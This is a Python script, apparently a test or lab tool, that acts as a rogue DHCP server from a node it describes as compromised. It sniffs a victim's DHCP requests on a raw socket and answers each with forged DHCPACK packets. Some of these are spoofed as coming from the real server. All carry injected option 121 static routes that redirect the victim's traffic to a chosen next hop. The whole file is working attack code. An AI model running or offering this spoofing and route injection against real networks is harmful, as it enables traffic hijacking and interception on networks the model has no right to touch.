"""Answers another node's questions for its host routes in the DHCP server's place, as root on a compromised node can.

Usage: rogue-dhcp.py DEVICE VICTIM-IP SERVER-IP SECONDS SOURCE-PORT ROUTE... with ROUTE as 10.200.2.0/25=10.106.1.3 (destination, next hop).
Questions are broadcast, so it sees them with their number. It answers each twice, from its own address and as if it were the server, and
prints how many questions there were.
"""
import fcntl, ipaddress, socket, struct, sys, time

COOKIE = b"\x63\x82\x53\x63"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def option121(routes):
    value = b""
    for route in routes:
        destination, hop = route.split("=")
        network = ipaddress.ip_network(destination)
        octets = network.network_address.packed[: (network.prefixlen + 7) // 8]
        value += bytes([network.prefixlen]) + octets + socket.inet_aton(hop)
    return bytes([121, len(value)]) + value


def answer(xid, mac, victim, source, server, port, routes):
    """An IP packet: a DHCPACK with the routes, to the victim's port 68. The UDP checksum is left out, as IPv4 allows."""
    bootp = struct.pack("!4B4s4x4s4s8x16s192x4s", 2, 1, 6, 0, xid, victim, victim, mac, COOKIE)
    bootp += bytes([53, 1, 5, 54, 4]) + server + option121(routes) + b"\xff"
    udp = struct.pack("!4H", port, 68, 8 + len(bootp), 0) + bootp
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, victim)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + udp


def main(device, victim, server, seconds, port, *routes):
    victim, server = socket.inet_aton(victim), socket.inet_aton(server)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    link.bind((device, 0x0800))
    own_mac = link.getsockname()[4]
    request = fcntl.ioctl(link, 0x8915, struct.pack("256s", device.encode()))  # SIOCGIFADDR
    own = request[20:24]
    questions = 0
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        link.settimeout(max(0.01, end - time.monotonic()))
        try:
            frame = link.recv(65535)
        except socket.timeout:
            break
        packet = frame[14:]
        start = (packet[0] & 15) * 4
        bootp = packet[start + 8 :]
        asks = packet[9] == 17 and packet[start + 2 : start + 4] == b"\0\x43" and packet[12:16] == victim
        if not asks or bootp[:1] != b"\1" or bootp[236:240] != COOKIE:
            continue
        questions += 1
        mac, xid = bootp[28:34], bootp[4:8]
        for source in (own, server):
            packet = answer(xid, mac, victim, source, server, int(port), routes)
            link.send(mac + own_mac + b"\x08\x00" + packet)
    print(questions)


main(*sys.argv[1:])
